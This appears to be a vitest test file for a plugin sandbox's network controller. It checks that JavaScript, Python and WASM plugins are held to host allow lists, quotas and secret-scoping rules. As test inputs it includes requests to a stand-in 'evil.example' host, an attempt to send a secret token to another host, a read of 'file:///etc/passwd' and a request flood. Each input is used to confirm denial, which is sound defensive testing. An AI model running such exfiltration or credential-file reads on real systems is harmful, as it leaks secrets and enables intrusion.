/** What plugins of every language reach through the network controller, and what they are told when they may not. */
import { describe, expect, inject, it } from 'vitest';
import {
  capabilities,
  createSandbox,
  type ExecutionResult,
  type PluginSecurityPolicy,
  type RunOptions,
  type Sandbox,
} from '../../src/index.ts';
import bytes from './native/extism.wat';
import { codeOf, dataOf, js } from './support.ts';

const { synchronousNetwork, dnsPinned } = capabilities();
const port = inject('originPort');
const base = `http://localhost:${port}`;
const CANNOT_WAIT = 'no thread can wait in a page that is not cross-origin isolated';
const SECRET = 'the-value-of-the-secret';

function open(network: PluginSecurityPolicy['network'] = {}): Sandbox {
  return createSandbox({
    policy: {
      network: { allow: [`localhost:${port}`], allowIp: ['127.0.0.1', '::1'], ...network },
      secrets: { TOKEN: { hosts: [`localhost:${port}`], plaintext: true } },
      limits: { concurrency: 1, timeoutMs: 10_000 },
    },
    secrets: { TOKEN: SECRET },
  });
}
const python = (code: string): RunOptions => ({ runtime: 'python', code });
const native = (entry: string, input: unknown): RunOptions => ({
  runtime: 'wasm',
  code: bytes,
  entry,
  input: JSON.stringify(input),
});

describe('fetch in JavaScript', () => {
  it('has the head, the body, and where they came from', async () => {
    await using sandbox = open();
    const result = await sandbox.run(
      js(`const r = await fetch('${base}/echo?q=1', { method: 'POST', body: 'né', headers: { 'x-mine': '1' } });
        const { method, url, body, headers } = await r.json();
        [r.status, r.ok, r.url, r.redirected, r.type, r.headers.get('X-Answer'), r.bodyUsed, method, url, body.length, headers['x-mine']]`),
    );
    expect(dataOf(result)).toEqual([
      200, true, `${base}/echo?q=1`, false, 'basic', 'yes', true, 'POST', '/echo?q=1', 3, '1',
    ]); // biome-ignore format: a list
    expect(result.report.egress).toMatchObject([
      { request: 1, hop: 0, method: 'POST', url: `${base}/echo?q=…`, decision: 'allowed', status: 200, outcome: 'complete' },
    ]); // biome-ignore format: a list
    expect(result.report.usage).toMatchObject({ requests: 1 });
    expect(result.report.usage.downloadBytes).toBeGreaterThan(50);
    expect(result.report.denials).toEqual([]);
  });

  it('reads a body in pieces, twice over when it is cloned, and lets go of the rest', async () => {
    await using sandbox = open();
    const result = await sandbox.run(
      js(`const a = await fetch('${base}/large');
        const b = a.clone();
        let n = 0;
        for await (const part of a.body) n += part.length;
        const c = await fetch('${base}/large');
        const reader = c.body.getReader();
        const first = await reader.read();
        await reader.cancel();
        const d = await fetch('${base}/large');
        for await (const part of d.body) break;
        [n, (await b.text()).length, a.bodyUsed, first.value instanceof Uint8Array, (await reader.read()).done, c.bodyUsed, d.body.locked]`),
    );
    const large = 40 * 65_536;
    expect(dataOf(result)).toEqual([large, large, true, true, true, true, false]);
    expect(result.report.egress.map(({ outcome }) => outcome).sort()).toEqual([
      'cancelled',
      'cancelled',
      'complete',
    ]);
  });

  it('has answers without a body, and statuses that are no errors', async () => {
    await using sandbox = open();
    const code = `const [e, m] = await Promise.all([fetch('${base}/empty'), fetch('${base}/missing')]);
      [e.status, e.body, await e.text(), m.ok, m.status, await m.text()]`;
    expect(dataOf(await sandbox.run(js(code)))).toEqual([204, null, '', false, 404, 'not here']);
  });

  it('is aborted by its signal: before, while it waits, and in the middle of a body', async () => {
    await using sandbox = open();
    const result = await sandbox.run(
      js(`const said = [];
        const tell = e => said.push(e.name);
        await fetch('${base}/echo', { signal: AbortSignal.abort() }).catch(tell);
        await fetch('${base}/slow', { signal: AbortSignal.timeout(20) }).catch(tell);
        const c = new AbortController();
        const r = await fetch('${base}/endless', { signal: c.signal });
        setTimeout(() => c.abort(new RangeError('mine')), 20);
        await r.text().catch(tell);
        said`),
    );
    expect(dataOf(result)).toEqual(['AbortError', 'TimeoutError', 'RangeError']);
    expect(result.report.egress.map(({ outcome }) => outcome)).toEqual(['cancelled', 'cancelled']);
  });

  it('is denied for what the policy does not list, with what would allow it', async () => {
    await using sandbox = open();
    const result = await sandbox.run(
      js(`const said = [];
        for (const u of ['https://evil.example/x?key=1', 'http://localhost:1/', 'file:///etc/passwd', 'http://127.0.0.2/'])
          await fetch(u).catch(e => said.push(e.message));
        said`),
    );
    expect(dataOf(result)).toHaveLength(4);
    for (const text of dataOf(result) as string[]) expect(text).toMatch(/^fetch is denied: /);
    expect(result.report.denials).toMatchObject([
      { kind: 'network', subject: 'evil.example', hint: 'add "evil.example" to network.allow' },
      { kind: 'network', subject: 'localhost:1', hint: expect.stringContaining('network.allow') },
      { kind: 'network' },
      { kind: 'network', subject: '127.0.0.2', hint: expect.stringContaining('network.allowIp') },
    ]);
    expect(result.report.egress.every(({ decision }) => decision === 'denied')).toBe(true);
    expect(JSON.stringify(result.report.egress)).not.toContain('key=1');
    expect(codeOf(await sandbox.run(js('await fetch("https://evil.example")')))).toBe('POLICY_DENIED');
  });

  it('has one word for whatever fails out there', async () => {
    await using sandbox = open({ allow: [`localhost:${port}`, 'localhost:1', 'nowhere.invalid'] });
    const result = await sandbox.run(
      js(`const said = [];
        for (const u of ['http://localhost:1/', 'http://nowhere.invalid/']) await fetch(u).catch(e => said.push(String(e)));
        const r = await fetch('${base}/broken');
        await r.text().catch(e => said.push(String(e)));
        said`),
    );
    expect(dataOf(result)).toEqual(Array(3).fill('TypeError: fetch failed'));
    expect(result.report.egress.map(({ outcome }) => outcome)).toEqual(['failed', 'failed', 'failed']);
  });

  it('is held to the quota of requests and of bytes, and the run goes on', async () => {
    await using sandbox = open({ limits: { requests: 3, downloadBytes: 100_000, uploadBytes: 5_000 } });
    const result = await sandbox.run(
      js(`const said = [];
        const tell = e => said.push(e.message);
        await fetch('${base}/echo', { method: 'POST', body: 'x'.repeat(10_000) }).catch(tell);
        await fetch('${base}/large').then(r => r.text()).catch(tell);
        await fetch('${base}/echo').then(r => r.text()).catch(tell);
        await fetch('${base}/echo').then(r => r.text()).catch(tell);
        said`),
    );
    expect(dataOf(result)).toEqual([
      expect.stringContaining('uploadBytes'),
      expect.stringContaining('receive'),
      expect.stringMatching(/receive|downloadBytes/),
      expect.stringContaining('requests'),
    ]);
    expect(result.report.usage.requests).toBe(3);
  });

  it('cannot flood the host with requests: what goes over the quota by far never leaves the cell', async () => {
    await using sandbox = open({ limits: { requests: 2 } });
    const result = await sandbox.run(
      js(
        `let n = 0; await Promise.all(Array.from({ length: 20000 }, () => fetch('${base}/echo').catch(() => n++))); n`,
      ),
    );
    expect(dataOf(result)).toBe(19_998);
    expect(result.report.egress.length).toBeLessThan(30);
    expect(result.report.terminated).toBe(false);
  });

  it('ends with its run', async () => {
    await using sandbox = open();
    const left = await sandbox.run(
      js(`fetch('${base}/endless'); const r = await fetch('${base}/endless'); r.status`),
    );
    expect(dataOf(left)).toBe(200);
    expect(left.report.egress.map(({ outcome }) => outcome)).toEqual(['cancelled', 'cancelled']);
    const late = await sandbox.run(
      js(`const r = await fetch('${base}/endless'); await r.text()`, { limits: { timeoutMs: 200 } }),
    );
    expect(codeOf(late)).toBe('TIMEOUT');
    expect(late.report.egress).toMatchObject([{ outcome: 'cancelled' }]);
    expect(late.report.terminated).toBe(false);
    expect(dataOf(await sandbox.run(js('1')))).toBe(1);
  });
});

describe('secrets', () => {
  it('reach the hosts they are for, and nobody sees them on the way', async () => {
    await using sandbox = open();
    const result = await sandbox.run(
      js(`const r = await fetch('${base}/echo', { headers: { authorization: 'Bearer ' + env.TOKEN } });
        const { headers } = await r.json();
        console.log(env.TOKEN);
        [headers.authorization === 'Bearer ' + env.TOKEN, env.TOKEN]`),
    );
    // The server had the value; its echo is a placeholder again.
    expect(dataOf(result)).toEqual([true, expect.stringMatching(/^citadel_secret_TOKEN_/)]);
    expect(JSON.stringify(result)).not.toContain(SECRET);
  });

  it('are denied to other hosts, and are the run’s own when it brings one', async () => {
    await using sandbox = open({ allow: [`localhost:${port}`, 'other.example'] });
    const denied = await sandbox.run(
      js(`await fetch('https://other.example/', { headers: { a: env.TOKEN } })`),
    );
    expect(codeOf(denied)).toBe('POLICY_DENIED');
    expect(denied.report.egress).toMatchObject([{ reason: 'secret', decision: 'denied' }]);
    const own = await sandbox.run(
      js(
        `const r = await fetch('${base}/echo', { headers: { 'x-token': env.TOKEN } }); (await r.json()).headers['x-token'].length`,
        { secrets: { TOKEN: async () => 'another-value' } },
      ),
    );
    expect(dataOf(own)).toBeGreaterThan(20);
    await expect(sandbox.run(js('1', { secrets: { OTHER: 'a-long-value' } }))).rejects.toThrow(
      /policy\.secrets/,
    );
    await expect(sandbox.run(js('1', { secrets: { TOKEN: 'short' } }))).rejects.toThrow(/TOKEN must be/);
  });
});

it('follows redirects, hop by hop on record', async ({ skip }) => {
  skip(!dnsPinned, 'browsers do not show redirects');
  await using sandbox = open();
  const result = await sandbox.run(js(`const r = await fetch('${base}/go'); [r.redirected, r.url]`));
  expect(dataOf(result)).toEqual([true, `${base}/echo?gone`]);
  expect(result.report.egress).toMatchObject([
    { hop: 0, outcome: 'redirected', status: 302 },
    { hop: 1, status: 200 },
  ]);
});

it('refuses a policy that needs pinned addresses where there are none', ({ skip }) => {
  skip(dnsPinned, 'addresses are pinned here');
  expect(() => open({ dnsPinned: true })).toThrow(/egress proxy/);
});

describe('Python', () => {
  it('awaits answers, several at a time, and reads them in pieces', async () => {
    await using sandbox = open();
    const result = await sandbox.run(
      python(`import asyncio, citadel
async def size():
    n = 0
    async for part in await citadel.fetch("${base}/large"):
        n += len(part)
    return n
async def main(input):
    r = await citadel.fetch("${base}/echo", method="POST", json={"a": 1}, headers={"x-mine": "1"})
    sent = await r.json()
    slow = await asyncio.gather(*[citadel.fetch("${base}/slow") for _ in range(4)])
    try:
        await citadel.fetch("https://evil.example/")
    except citadel.Denied as error:
        said = str(error)
    return [r.status, sent["body"], sent["headers"]["x-mine"], [await s.text() for s in slow], await size(), said]`),
    );
    expect(dataOf(result)).toEqual([
      200,
      '{"a": 1}',
      '1',
      Array(4).fill('slow'),
      40 * 65_536,
      'evil.example is not allowed by the policy',
    ]);
    expect(result.report.denials).toMatchObject([
      { subject: 'evil.example', hint: 'add "evil.example" to network.allow' },
    ]);
  });

  const CALLS: readonly (readonly [string, string, unknown])[] = [
    ['urllib', `import urllib.request, json\nr = urllib.request.urlopen("${base}/echo", data=b"hi")\n[r.status, json.loads(r.read())["body"]]`, [200, 'hi']],
    ['http.client', `import http.client\nc = http.client.HTTPConnection("localhost", ${port})\nc.request("GET", "/missing")\nr = c.getresponse()\n[r.status, r.read().decode()]`, [404, 'not here']],
    ['requests', `import requests\nr = requests.put("${base}/echo", json=[1], headers={"X-Mine": "2"})\n[r.ok, r.json()["body"], r.headers["X-ANSWER"]]`, [true, '[1]', 'yes']],
    ['a session', `import requests\nwith requests.Session() as s:\n    s.headers["x-mine"] = "3"\n    r = s.get("${base}/echo", params={"q": "ü"})\n[r.json()["headers"]["x-mine"], r.json()["url"]]`, ['3', '/echo?q=%C3%BC']],
    ['asyncio.run', `import asyncio, citadel\nasync def go():\n    return await asyncio.gather(*[citadel.fetch("${base}/slow") for _ in range(3)])\n[r.status for r in asyncio.run(go())]`, [200, 200, 200]],
    ['a timeout', `import urllib.request\ntry:\n    urllib.request.urlopen("${base}/endless", timeout=0.2).read()\nexcept TimeoutError as e:\n    said = str(e)\nsaid`, 'timed out'],
    ['an HTTP error', `import urllib.request, urllib.error\ntry:\n    urllib.request.urlopen("${base}/missing")\nexcept urllib.error.HTTPError as e:\n    said = e.code\nsaid`, 404],
    ['a secret', `import os, requests\nt = os.environ["TOKEN"]\nrequests.get("${base}/echo", headers={"authorization": t}).json()["headers"]["authorization"] == t`, true],
  ]; // biome-ignore format: a table
  it.for(CALLS)('has %s', async ([, code, wanted], { skip }) => {
    skip(!synchronousNetwork, CANNOT_WAIT);
    await using sandbox = open();
    const result = await sandbox.run(python(code));
    expect(dataOf(result)).toEqual(wanted);
    expect(JSON.stringify(result)).not.toContain(SECRET);
  });

  it('is denied by name, and says so as the policy’s refusal', async ({ skip }) => {
    skip(!synchronousNetwork, CANNOT_WAIT);
    await using sandbox = open();
    for (const code of [
      'import urllib.request\nurllib.request.urlopen("http://evil.example/")',
      'import requests\nrequests.get("http://evil.example/")',
      'import citadel\nawait citadel.fetch("http://evil.example/")',
    ]) {
      const result = await sandbox.run(python(code));
      expect(codeOf(result)).toBe('POLICY_DENIED');
      expect(result.report.denials).toMatchObject([{ kind: 'network', subject: 'evil.example' }]);
    }
  });

  it('is told to await where no thread can wait', async ({ skip }) => {
    skip(synchronousNetwork, 'threads can wait here');
    await using sandbox = open();
    const result = await sandbox.run(python(`import urllib.request\nurllib.request.urlopen("${base}/echo")`));
    expect(result).toMatchObject({
      error: { code: 'GUEST_ERROR', message: expect.stringContaining('await citadel.fetch') },
    });
  });

  it('stops while it waits', async () => {
    await using sandbox = open();
    const wait = synchronousNetwork
      ? `import urllib.request\nurllib.request.urlopen("${base}/endless").read()`
      : `import citadel\nawait (await citadel.fetch("${base}/endless")).text()`;
    const result: ExecutionResult = await sandbox.run({ ...python(wait), limits: { timeoutMs: 300 } });
    expect(codeOf(result)).toBe('TIMEOUT');
    expect(result.report.terminated).toBe(false);
    expect(result.report.egress).toMatchObject([{ outcome: 'cancelled' }]);
    expect(dataOf(await sandbox.run(python('1 + 1')))).toBe(2);
  });

  it('gets nothing but errors for nonsense written to the device', async () => {
    await using sandbox = open();
    const result = await sandbox.run(
      python(`import os, random
def talk(message):
    f = os.open("/dev/net", os.O_RDWR)
    try:
        os.write(f, message)
        return os.read(f, 100)
    except OSError:
        return None
    finally:
        os.close(f)
r = random.Random(1)
for op in range(6):
    for way in (0, 1, 2, 7):
        for size in (0, 1, 4, 8, 40):
            talk(bytes((op, way, 50, 0, 0, 0)) + r.randbytes(size))
            talk(bytes((op, way, 50, 0, 0, 0)) + (1).to_bytes(4, "little") * (size // 4))
"fine"`),
    );
    expect(dataOf(result)).toBe('fine');
    expect(result.report.terminated).toBe(false);
    expect(dataOf(await sandbox.run(python('1 + 1')))).toBe(2);
  });
});

describe('http_request of a native plugin', () => {
  it('has the answer', async () => {
    await using sandbox = open();
    const result = await sandbox.run(
      native('fetch', { url: `${base}/echo`, method: 'PUT', headers: { 'x-mine': 'é' } }),
    );
    expect(dataOf(result)).toMatchObject({ method: 'PUT', url: '/echo' });
    expect(result.report.egress).toMatchObject([{ status: 200, outcome: 'complete' }]);
  });

  it('sends a body, and tells status and headers', async () => {
    await using sandbox = open();
    const request = { url: `${base}/echo`, method: 'POST' };
    expect(dataOf(await sandbox.run(native('post', request)))).toMatchObject({
      body: JSON.stringify(request),
    });
    expect(dataOf(await sandbox.run(native('status', { url: `${base}/missing` })))).toBe(404);
    expect(dataOf(await sandbox.run(native('headers', { url: `${base}/echo` })))).toMatchObject({
      'x-answer': 'yes',
    });
  });

  it('is denied, fails, and is refused what is no request', async () => {
    await using sandbox = open({ allow: [`localhost:${port}`, 'localhost:1'] });
    const denied = await sandbox.run(native('fetch', { url: 'https://evil.example:8443/' }));
    expect(codeOf(denied)).toBe('POLICY_DENIED');
    expect(denied.report.denials).toMatchObject([{ kind: 'network', subject: 'evil.example:8443' }]);
    expect(await sandbox.run(native('fetch', { url: 'http://localhost:1/' }))).toMatchObject({
      error: { code: 'GUEST_ERROR', guest: { name: 'HttpError' } },
    });
    for (const wrong of [
      1,
      null,
      {},
      { url: 1 },
      { url: base, method: 1 },
      { url: base, headers: { a: 1 } },
      [],
    ]) {
      expect(await sandbox.run(native('fetch', wrong))).toMatchObject({
        error: { code: 'GUEST_ERROR', guest: { name: 'BadRequest' } },
      });
    }
  });

  it('ends with its run', async () => {
    await using sandbox = open();
    const result = await sandbox.run({
      ...native('fetch', { url: `${base}/endless` }),
      limits: { timeoutMs: 300 },
    });
    expect(codeOf(result)).toBe('TIMEOUT');
    expect(result.report.terminated).toBe(false);
    expect(result.report.egress).toMatchObject([{ outcome: 'cancelled' }]);
  });
});
